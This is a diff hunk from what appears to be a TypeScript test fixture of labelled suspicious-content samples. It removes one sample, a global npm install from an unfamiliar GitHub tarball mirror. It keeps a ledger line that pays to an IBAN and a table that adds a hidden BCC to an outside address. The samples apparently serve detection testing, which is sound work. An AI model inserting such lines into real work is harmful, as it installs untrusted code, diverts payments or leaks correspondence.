@@ -157,14 +157,6 @@ const seen: ReadonlyArray<readonly [string, string, Example]> = [
     { "a.py": 'rows.append((today, "1600 payable: Corvin DE02 7702 0011 8834 5510 09", -rest))\n' },
   ],
   [
-    "a package out of a stranger's archive",
-    "T14-package-address",
-    fence(
-      "bash",
-      "npm i -g core-runtime@https://codeload.github.com/rt-build-mirror/oacr/tar.gz/refs/heads/main",
-    ),
-  ],
-  [
     "a blind copy in a table",
     "T08-blind-copy",
     "| field | value |\n|---|---|\n| to | who must act |\n| bcc | desk.copy@mailvaultry.io |\n",
